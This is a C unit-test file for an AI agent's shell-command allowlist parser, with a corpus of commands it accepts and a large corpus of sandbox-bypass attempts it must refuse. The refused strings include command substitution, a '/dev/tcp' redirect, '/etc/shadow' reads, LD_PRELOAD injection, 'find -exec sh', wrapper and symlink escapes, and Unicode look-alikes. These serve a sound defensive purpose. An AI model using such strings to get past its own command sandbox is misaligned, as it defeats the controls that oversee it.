/* SPDX-License-Identifier: Apache-2.0 */
/* The command allowlist's parser layer (agent/cmdparse.c): an allowed
 * corpus that must pass, and a bypass corpus that must be refused with the
 * right reason code — without a resolver call when the refusal is lexical
 * or structural. The resolver is a fake over a table that plays the
 * sandbox's PATH and symlinks. The kernel layer is tests/unit/test-landlock.c. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "agent/parse/cmdparse.h"
#include "lib/util.h"

/* word as /bin/sh would look it up -> real path of what it finds */
struct fake_ent {
	const char *word, *real;
};
static const struct fake_ent fake_fs[] = {
	{ "ls", "/usr/bin/ls" },
	{ "/usr/bin/ls", "/usr/bin/ls" },
	{ "/bin/ls", "/usr/bin/ls" }, /* /bin -> usr/bin */
	{ "cat", "/usr/bin/cat" },
	{ "grep", "/usr/bin/grep" },
	{ "awk", "/usr/bin/mawk" }, /* awk -> /etc/alternatives/awk -> mawk */
	{ "sed", "/usr/bin/sed" },
	{ "find", "/usr/bin/find" },
	{ "head", "/usr/bin/head" },
	{ "wc", "/usr/bin/wc" },
	{ "sort", "/usr/bin/sort" },
	{ "tr", "/usr/bin/tr" },
	{ "echo", "/usr/bin/echo" },
	{ "printf", "/usr/bin/printf" },
	{ "test", "/usr/bin/test" },
	{ "[", "/usr/bin/[" },
	{ "env", "/usr/bin/env" },
	{ "/usr/bin/env", "/usr/bin/env" },
	{ "timeout", "/usr/bin/timeout" },
	{ "xargs", "/usr/bin/xargs" },
	{ "nice", "/usr/bin/nice" },
	{ "sh", "/usr/bin/dash" },
	{ "bash", "/usr/bin/bash" },
	{ "python3", "/usr/bin/python3.11" },
	{ "id", "/usr/bin/id" },
	/* a copy of sh the sandbox put in /tmp and named ls */
	{ "/tmp/ls", "/tmp/ls" },
	/* a symlink named ls in the cwd, pointing to cat */
	{ "./ls", "/usr/bin/cat" },
	/* a symlink named cat pointing to the allowed ls: a real allowed
	 * file, but not the one the name cat stands for */
	{ "./cat", "/usr/bin/ls" },
};

struct fake {
	const struct fake_ent *t;
	size_t n;
};
static const struct fake sandbox = { fake_fs, ARRAY_SIZE(fake_fs) };
static int resolver_calls;

static int fake_resolve(void *ud, const char *word, char *out, size_t outlen)
{
	const struct fake *f = ud;
	resolver_calls++;
	for (size_t i = 0; i < f->n; i++)
		if (streq(f->t[i].word, word)) {
			snprintf(out, outlen, "%s", f->t[i].real);
			return 0;
		}
	return -ENOENT;
}

/* allowed_commands of the test session, resolved through the fake. env,
 * timeout, xargs and nice are in it on purpose: wrappers stay refused
 * whatever the list says. ghost does not resolve at all. */
static const char *const allowed[] = { "ls",   "cat",  "grep", "awk",  "sed",     "find",  "head",  "wc",
				       "sort", "tr",   "echo", "printf", "test", "[",     "env",   "timeout",
				       "xargs", "nice", "ghost" };
static const char *real[ARRAY_SIZE(allowed)];

static struct bk_cmd_policy policy(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(allowed); i++) {
		static char keys[ARRAY_SIZE(allowed)][64];
		real[i] = fake_resolve((void *)&sandbox, allowed[i], keys[i], sizeof(keys[i])) == 0 ? keys[i] : NULL;
	}
	resolver_calls = 0;
	return (struct bk_cmd_policy){ .names = allowed, .real = real, .n = ARRAY_SIZE(allowed),
				       .resolve = fake_resolve, .ud = (void *)&sandbox };
}

static bool printable(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s < 0x20 || (unsigned char)*s > 0x7e)
			return false;
	return true;
}

/* ---- accepted ------------------------------------------------------------- */

static const char *const good[] = {
	"ls",
	"ls -la /workspace",
	"ls | grep foo | wc -l",
	"cat a.txt && echo done || echo failed",
	"ls; cat x;",
	"grep -r 'TODO' . > /workspace/out.txt 2>&1",
	"cat < input.txt > out/result.txt",
	"echo \"hello world\" >> /tmp/log",
	"awk '{print $1}' data.csv | sort | head -n 5",
	"sed -e 's/a/b/g' f > /mnt/user-data/outputs/f",
	"cat /mnt/skills/x/SKILL.md /etc/hostname", /* arguments are the command's business */
	"cat < /mnt/user-data/uploads/in.csv",
	"ls 2>/dev/null",
	"ls >/dev/null 2>&1",
	"ls 2>&1 >/dev/null | wc -l",
	"l's' -la",
	"\"ls\" -la",
	"l\\s",
	"/usr/bin/ls",
	"/bin/ls /",
	"find . -name '*.c' -type f",
	"find . -name \\*.c",
	"grep foo *.txt",
	"echo \"a\\\"b\\\\c\"",
	"echo \"tab\\there\"",
	"printf 'x\\n' | tr a-z A-Z",
	"[ -f x ] && cat x",
	"test -d /workspace || echo no",
	"awk 'BEGIN{system(\"id\")}'", /* interpreter trade-off: the kernel layer stops id */
	"echo 'caf\xc3\xa9 \xc3\xbcn\xc3\xaf' \"\xe2\x9c\x93\"",
	"ls -la\t/workspace",
	"echo HEAD~1 a#b 'x'~",
	"echo '$HOME' 'a;b|c&d' '`id`' '$(id)' '<<EOF'",
	"> /workspace/empty",
	"cat x 2>> /tmp/err",
	"ls 1>&2",
	"cat 0<in",
	"ls >&-",
	"head -c 10 < /dev/urandom | wc -c",
	"echo hi > /dev/stderr",
	"echo \\; \\& \\| \\( \\{ \\*",
	"sort -t, -k2 data.csv > sorted.csv",
	"grep -c x f >/workspace/a/b/c.txt",
	"echo '' \"\"",
	"ls '-la'",
	"cat x > /tmp/y 2> /tmp/z < /workspace/w",
};

static void accepted(void **st)
{
	for (size_t i = 0; i < ARRAY_SIZE(good); i++) {
		struct bk_cmd_policy pol = policy();
		struct bk_cmd_result res;
		int r = bk_cmd_check(good[i], &pol, &res);
		if (r != 0)
			fail_msg("refused: %s\n  code %s: %s", good[i], res.code, res.reason);
		assert_string_equal(res.code, BK_CMD_OK);
		assert_true(res.n_commands >= 1);
		assert_true(resolver_calls <= (int)res.n_commands);
	}
}

static void counts_commands(void **st)
{
	struct bk_cmd_policy pol = policy();
	struct bk_cmd_result res;
	assert_int_equal(bk_cmd_check("ls | grep a && cat b; wc -l c", &pol, &res), 0);
	assert_int_equal(res.n_commands, 4);
	assert_int_equal(resolver_calls, 4);
}

/* relative redirection targets are relative to the exec's cwd */
static void relative_to_cwd(void **st)
{
	struct bk_cmd_policy pol = policy();
	struct bk_cmd_result res;
	pol.cwd = "/workspace/sub";
	assert_int_equal(bk_cmd_check("cat > out", &pol, &res), 0);
	pol.cwd = "/mnt/skills/s";
	assert_int_equal(bk_cmd_check("cat < SKILL.md", &pol, &res), 0);
	assert_int_equal(bk_cmd_check("cat > out", &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_REDIR_READONLY);
	pol.cwd = "/";
	assert_int_equal(bk_cmd_check("cat > out", &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_REDIR_TARGET);
}

/* ---- refused ------------------------------------------------------------------ */

struct bad {
	const char *cmd;
	const char *code;
	int err;
	bool resolves; /* the refusal comes from the resolver/allowlist pass */
};
#define B(c, code_) { c, code_, -EPERM, false }
#define BR(c, code_) { c, code_, -EPERM, true }

static const struct bad bad[] = {
	/* substitutions and expansions */
	B("ls $(id)", BK_CMD_R_COMMAND_SUBST),
	B("ls `id`", BK_CMD_R_COMMAND_SUBST),
	B("echo \"$(id)\"", BK_CMD_R_COMMAND_SUBST),
	B("echo \"`id`\"", BK_CMD_R_COMMAND_SUBST),
	B("echo $((1+1))", BK_CMD_R_COMMAND_SUBST),
	B("cat <(id)", BK_CMD_R_PROCESS_SUBST),
	B("ls >(sh)", BK_CMD_R_PROCESS_SUBST),
	B("ls ${IFS}", BK_CMD_R_PARAM_EXPANSION),
	B("ls${IFS}-la", BK_CMD_R_PARAM_EXPANSION),
	B("cat${IFS}/etc/passwd", BK_CMD_R_PARAM_EXPANSION),
	B("echo $HOME", BK_CMD_R_PARAM_EXPANSION),
	B("echo \"${PATH}\"", BK_CMD_R_PARAM_EXPANSION),
	B("echo \"\\$x\"", BK_CMD_R_PARAM_EXPANSION),
	B("echo \\$x", BK_CMD_R_PARAM_EXPANSION),
	B("echo \"\\`id\\`\"", BK_CMD_R_COMMAND_SUBST),
	B("echo $'\\x41'", BK_CMD_R_PARAM_EXPANSION),
	B("cat ~/x", BK_CMD_R_TILDE),
	B("cat > ~/.profile", BK_CMD_R_TILDE),
	B("ls --dir=~root", BK_CMD_R_TILDE),
	/* heredocs, subshells, groups, background */
	B("cat <<EOF", BK_CMD_R_HEREDOC),
	B("cat <<-EOF", BK_CMD_R_HEREDOC),
	B("cat <<<x", BK_CMD_R_HEREDOC),
	B("(sh)", BK_CMD_R_SUBSHELL),
	B("ls; (id)", BK_CMD_R_SUBSHELL),
	B("ls() sh", BK_CMD_R_SUBSHELL),
	B("{ sh; }", BK_CMD_R_BRACE),
	B("echo {a,b}", BK_CMD_R_BRACE),
	B("{ls,-la}", BK_CMD_R_BRACE),
	B("ls &", BK_CMD_R_BACKGROUND),
	B("ls & sh", BK_CMD_R_BACKGROUND),
	B("ls &> /tmp/x", BK_CMD_R_BACKGROUND),
	B("ls |& cat", BK_CMD_R_BACKGROUND),
	/* line structure and bytes */
	B("ls\nsh", BK_CMD_R_NEWLINE),
	B("ls\rsh", BK_CMD_R_NEWLINE),
	B("ls 'a\nb'", BK_CMD_R_NEWLINE),
	B("ls \\\nsh", BK_CMD_R_ESCAPED_NEWLINE),
	B("echo \"a\\\nb\"", BK_CMD_R_ESCAPED_NEWLINE),
	B("ls\x01", BK_CMD_R_CONTROL_CHAR),
	B("ls\x7f", BK_CMD_R_CONTROL_CHAR),
	B("ls '\x1b[2J'", BK_CMD_R_CONTROL_CHAR),
	B("ls \\", BK_CMD_R_BACKSLASH),
	B("'l\ts' x", BK_CMD_R_CONTROL_CHAR),
	B("ls # ; sh", BK_CMD_R_COMMENT),
	/* unicode look-alikes and invisible characters */
	B("\xe2\x85\xbcs", BK_CMD_R_NON_ASCII),                 /* U+217C small roman numeral fifty */
	B("\xef\xbd\x8c\xef\xbd\x93", BK_CMD_R_NON_ASCII),      /* fullwidth ls */
	B("'\xe2\x85\xbcs'", BK_CMD_R_NON_ASCII),               /* quoted, in command position */
	B("ls \xc2\xa0-la", BK_CMD_R_NON_ASCII),                /* no-break space */
	B("echo 'a\xe2\x80\xae" "b'", BK_CMD_R_UNICODE_FORMAT),    /* U+202E right-to-left override */
	B("echo 'a\xe2\x80\x8b" "b'", BK_CMD_R_UNICODE_FORMAT),    /* U+200B zero width space */
	B("echo \"\xef\xbb\xbf\"", BK_CMD_R_UNICODE_FORMAT),    /* U+FEFF */
	B("echo '\xc2\x85'", BK_CMD_R_UNICODE_FORMAT),          /* U+0085 NEL (C1) */
	B("echo '\xff'", BK_CMD_R_INVALID_UTF8),
	B("echo '\xc0\xaf'", BK_CMD_R_INVALID_UTF8),           /* overlong '/' */
	B("echo '\xed\xa0\x80'", BK_CMD_R_INVALID_UTF8),       /* surrogate */
	B("echo '\xe2\x82'", BK_CMD_R_INVALID_UTF8),           /* truncated */
	/* builtins that evaluate, exec or change what later words mean */
	B("eval ls", BK_CMD_R_EVAL),
	B("ls; eval 'sh'", BK_CMD_R_EVAL),
	B("trap sh EXIT", BK_CMD_R_EVAL),
	B("let 'x[$(id)]'", BK_CMD_R_EVAL),
	B("test -v 'a[$(id)]'", BK_CMD_R_EVAL),
	B("[ -v 'a[$(id)]' ]", BK_CMD_R_EVAL),
	B("printf -v 'a[$(id)]' x", BK_CMD_R_EVAL),
	B("exec sh", BK_CMD_R_EXEC),
	B("source x", BK_CMD_R_SOURCE),
	B(". ./x", BK_CMD_R_SOURCE),
	B("command -v x", BK_CMD_R_BUILTIN_PREFIX),
	B("builtin echo", BK_CMD_R_BUILTIN_PREFIX),
	B("env sh", BK_CMD_R_WRAPPER),
	B("/usr/bin/env sh", BK_CMD_R_WRAPPER),
	B("nohup ls", BK_CMD_R_WRAPPER),
	B("time ls", BK_CMD_R_WRAPPER),
	B("timeout 5 sh", BK_CMD_R_WRAPPER),
	B("nice sh", BK_CMD_R_WRAPPER),
	B("xargs sh", BK_CMD_R_WRAPPER),
	B("ls | xargs sh", BK_CMD_R_WRAPPER),
	B("sudo ls", BK_CMD_R_WRAPPER),
	B("su -c id", BK_CMD_R_WRAPPER),
	B("ssh host id", BK_CMD_R_WRAPPER),
	B("/lib64/ld-linux-x86-64.so.2 /usr/bin/id", BK_CMD_R_WRAPPER),
	B("cd /etc", BK_CMD_R_SHELL_STATE),
	B("export PATH=/tmp", BK_CMD_R_SHELL_STATE),
	B("read PATH < /tmp/p", BK_CMD_R_SHELL_STATE),
	B("alias ls=sh", BK_CMD_R_SHELL_STATE),
	B("hash -p /tmp/sh ls", BK_CMD_R_SHELL_STATE),
	B("set -a", BK_CMD_R_SHELL_STATE),
	B("unset PATH", BK_CMD_R_SHELL_STATE),
	/* reserved words */
	B("if true; then sh; fi", BK_CMD_R_RESERVED),
	B("while :; do sh; done", BK_CMD_R_RESERVED),
	B("for x in a; do sh; done", BK_CMD_R_RESERVED),
	B("! ls", BK_CMD_R_RESERVED),
	B("[[ -f x ]]", BK_CMD_R_RESERVED),
	/* assignments */
	B("PATH=/tmp ls", BK_CMD_R_ASSIGNMENT),
	B("LD_PRELOAD=/tmp/x.so ls", BK_CMD_R_ASSIGNMENT),
	B("IFS=x ls", BK_CMD_R_ASSIGNMENT),
	B("BASH_ENV=/tmp/x ls", BK_CMD_R_ASSIGNMENT),
	B("ls; X=1", BK_CMD_R_ASSIGNMENT),
	B("'PATH=/tmp' ls", BK_CMD_R_ASSIGNMENT),
	/* globs in command position */
	B("*", BK_CMD_R_GLOB_COMMAND),
	B("l?", BK_CMD_R_GLOB_COMMAND),
	B("/usr/bin/l[s]", BK_CMD_R_GLOB_COMMAND),
	B("/?\?\?/?\?", BK_CMD_R_GLOB_COMMAND),
	/* find */
	B("find . -exec sh \\;", BK_CMD_R_FIND_ACTION),
	B("find . -execdir sh {} +", BK_CMD_R_BRACE),
	B("find . -execdir sh '{}' +", BK_CMD_R_FIND_ACTION),
	B("find . -ok sh \\;", BK_CMD_R_FIND_ACTION),
	B("find . -delete", BK_CMD_R_FIND_ACTION),
	B("find . -fprint /etc/cron.d/x", BK_CMD_R_FIND_ACTION),
	B("find . '-exec' id ';'", BK_CMD_R_FIND_ACTION),
	B("find *", BK_CMD_R_FIND_GLOB),
	/* redirections */
	B("cat > /etc/passwd", BK_CMD_R_REDIR_TARGET),
	B("cat < /etc/shadow", BK_CMD_R_REDIR_TARGET),
	B("ls > /dev/tcp/10.0.0.1/80", BK_CMD_R_REDIR_TARGET),
	B("echo x > /proc/self/mem", BK_CMD_R_REDIR_TARGET),
	B("ls > /dev/./null", BK_CMD_R_REDIR_TARGET),
	B("ls > /workspacex/a", BK_CMD_R_REDIR_TARGET),
	B("ls > ../x", BK_CMD_R_DOTDOT),
	B("ls > /workspace/../etc/x", BK_CMD_R_DOTDOT),
	B("ls > /tmp/../tmp/x", BK_CMD_R_DOTDOT),
	B("ls > '..'", BK_CMD_R_DOTDOT),
	B("ls > /mnt/skills/x", BK_CMD_R_REDIR_READONLY),
	B("ls >> /mnt/user-data/uploads/x", BK_CMD_R_REDIR_READONLY),
	B("ls > *.txt", BK_CMD_R_REDIR_GLOB),
	B("ls > ''", BK_CMD_R_REDIR_TARGET),
	B("ls >", BK_CMD_R_REDIR_TARGET),
	B("ls > ; sh", BK_CMD_R_REDIR_TARGET),
	B("ls > > x", BK_CMD_R_REDIR_TARGET),
	B("ls 3> x", BK_CMD_R_REDIR_FD),
	B("ls 10>x", BK_CMD_R_REDIR_FD),
	B("ls >&3", BK_CMD_R_REDIR_FD),
	B("ls >&/etc/passwd", BK_CMD_R_REDIR_FD),
	B("ls <> x", BK_CMD_R_REDIR_UNSUPPORTED),
	B("ls >| x", BK_CMD_R_REDIR_UNSUPPORTED),
	/* empty commands */
	B(";; ls", BK_CMD_R_EMPTY_COMMAND),
	B("ls ;; ls", BK_CMD_R_EMPTY_COMMAND),
	B("| ls", BK_CMD_R_EMPTY_COMMAND),
	B("ls |", BK_CMD_R_EMPTY_COMMAND),
	B("ls | | cat", BK_CMD_R_EMPTY_COMMAND),
	B("ls && ", BK_CMD_R_EMPTY_COMMAND),
	B("; ls", BK_CMD_R_EMPTY_COMMAND),
	B("'' ls", BK_CMD_R_EMPTY_COMMAND),
	{ "", BK_CMD_R_EMPTY, -EINVAL, false },
	{ " \t ", BK_CMD_R_EMPTY, -EINVAL, false },
	{ "ls 'abc", BK_CMD_R_UNTERMINATED_QUOTE, -EINVAL, false },
	{ "ls \"abc", BK_CMD_R_UNTERMINATED_QUOTE, -EINVAL, false },
	/* the allowlist itself */
	BR("sh", BK_CMD_R_NOT_ALLOWED),
	BR("ls | sh", BK_CMD_R_NOT_ALLOWED),
	BR("bash -c id", BK_CMD_R_NOT_ALLOWED),
	BR("python3 -c 'import os; os.system(\"id\")'", BK_CMD_R_NOT_ALLOWED),
	BR("/tmp/ls", BK_CMD_R_NOT_ALLOWED),           /* a copy of sh named ls */
	BR("./ls -la", BK_CMD_R_NOT_ALLOWED),          /* symlink named ls -> cat */
	BR("./cat x", BK_CMD_R_NOT_ALLOWED),           /* symlink named cat -> the allowed ls */
	BR("ls; cat x | id", BK_CMD_R_NOT_ALLOWED),
	BR("ghost", BK_CMD_R_NOT_FOUND),               /* allowed, but not in the sandbox */
	BR("nothere", BK_CMD_R_NOT_ALLOWED),
};

static void refused(void **st)
{
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		struct bk_cmd_policy pol = policy();
		struct bk_cmd_result res;
		int r = bk_cmd_check(bad[i].cmd, &pol, &res);
		if (r != bad[i].err || !res.code || !streq(res.code, bad[i].code))
			fail_msg("case %zu: \"%s\"\n  want %d %s, got %d %s: %s", i, bad[i].cmd, bad[i].err, bad[i].code, r,
				 res.code ? res.code : "(null)", res.reason);
		if (!res.reason[0] || !printable(res.reason))
			fail_msg("case %zu: reason not a printable sentence: \"%s\"", i, res.reason);
		if (!bad[i].resolves && resolver_calls != 0)
			fail_msg("case %zu: \"%s\" refused for %s but the resolver ran %d times", i, bad[i].cmd, res.code,
				 resolver_calls);
		assert_true(res.offset <= strlen(bad[i].cmd));
	}
	/* the corpus the issue asks for */
	assert_true(ARRAY_SIZE(bad) >= 40);
}

/* A lexical refusal anywhere wins over an allowlist refusal earlier in the
 * line, and the resolver never runs for it. */
static void lexical_first(void **st)
{
	struct bk_cmd_policy pol = policy();
	struct bk_cmd_result res;
	assert_int_equal(bk_cmd_check("sh; ls $(id)", &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_COMMAND_SUBST);
	assert_int_equal(res.offset, 7);
	assert_int_equal(resolver_calls, 0);
}

static void bounds(void **st)
{
	struct bk_cmd_policy pol = policy();
	struct bk_cmd_result res;
	char *big = malloc(BK_CMD_MAX_LEN + 2);
	assert_non_null(big);
	memset(big, 'a', BK_CMD_MAX_LEN + 1);
	big[BK_CMD_MAX_LEN + 1] = '\0';
	assert_int_equal(bk_cmd_check(big, &pol, &res), -E2BIG);
	assert_string_equal(res.code, BK_CMD_R_TOO_LONG);
	/* exactly at the limit: one (unknown) word, fine for the lexer */
	big[BK_CMD_MAX_LEN] = '\0';
	assert_int_equal(bk_cmd_check(big, &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NOT_ALLOWED);
	/* words */
	size_t o = 0;
	o += (size_t)sprintf(big, "ls");
	for (int i = 0; i < BK_CMD_MAX_WORDS; i++)
		o += (size_t)sprintf(big + o, " a");
	assert_int_equal(bk_cmd_check(big, &pol, &res), -E2BIG);
	assert_string_equal(res.code, BK_CMD_R_TOO_MANY_WORDS);
	big[o - 2] = '\0'; /* 256 words */
	assert_int_equal(bk_cmd_check(big, &pol, &res), 0);
	/* operators count too */
	o = 0;
	for (int i = 0; i < BK_CMD_MAX_TOKENS; i++)
		o += (size_t)sprintf(big + o, "ls;");
	assert_int_equal(bk_cmd_check(big, &pol, &res), -E2BIG);
	free(big);
	/* NUL inside the buffer */
	assert_int_equal(bk_cmd_check_n("ls\0sh", 5, &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NUL);
	assert_int_equal(bk_cmd_check(NULL, &pol, &res), -EINVAL);
}

/* On a multi-call binary every name is the same file: the name must match
 * as well. */
static void multicall(void **st)
{
	static const struct fake_ent bb[] = {
		{ "ls", "/bin/busybox" }, { "sh", "/bin/busybox" }, { "cat", "/bin/busybox" }, { "./ls", "/bin/busybox" },
	};
	static const struct fake busybox = { bb, ARRAY_SIZE(bb) };
	const char *names[] = { "ls" }, *keys[] = { "/bin/busybox" };
	struct bk_cmd_policy pol = { .names = names, .real = keys, .n = 1, .resolve = fake_resolve, .ud = (void *)&busybox };
	struct bk_cmd_result res;
	assert_int_equal(bk_cmd_check("ls -l", &pol, &res), 0);
	assert_int_equal(bk_cmd_check("./ls -l", &pol, &res), 0);
	assert_int_equal(bk_cmd_check("sh", &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NOT_ALLOWED);
	assert_int_equal(bk_cmd_check("ls | cat", &pol, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NOT_ALLOWED);
}

/* No allowlist entries, a NULL real[] or no resolver: nothing runs. */
static void fail_closed(void **st)
{
	struct bk_cmd_result res;
	struct bk_cmd_policy empty = { 0 };
	assert_int_equal(bk_cmd_check("ls", &empty, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NOT_ALLOWED);
	assert_int_equal(bk_cmd_check("ls", NULL, &res), -EPERM);
	const char *names[] = { "ls" };
	struct bk_cmd_policy noreal = { .names = names, .n = 1, .resolve = fake_resolve, .ud = (void *)&sandbox };
	assert_int_equal(bk_cmd_check("ls", &noreal, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_NOT_ALLOWED);
	const char *keys[] = { "/usr/bin/ls" };
	struct bk_cmd_policy noresolve = { .names = names, .real = keys, .n = 1 };
	assert_int_equal(bk_cmd_check("ls", &noresolve, &res), -EPERM);
	assert_string_equal(res.code, BK_CMD_R_RESOLVE);
	/* redirection-only lines need no allowlist entry */
	assert_int_equal(bk_cmd_check("> /workspace/x", &empty, &res), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(accepted),      cmocka_unit_test(counts_commands), cmocka_unit_test(relative_to_cwd),
		cmocka_unit_test(refused),       cmocka_unit_test(lexical_first),   cmocka_unit_test(bounds),
		cmocka_unit_test(multicall),     cmocka_unit_test(fail_closed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
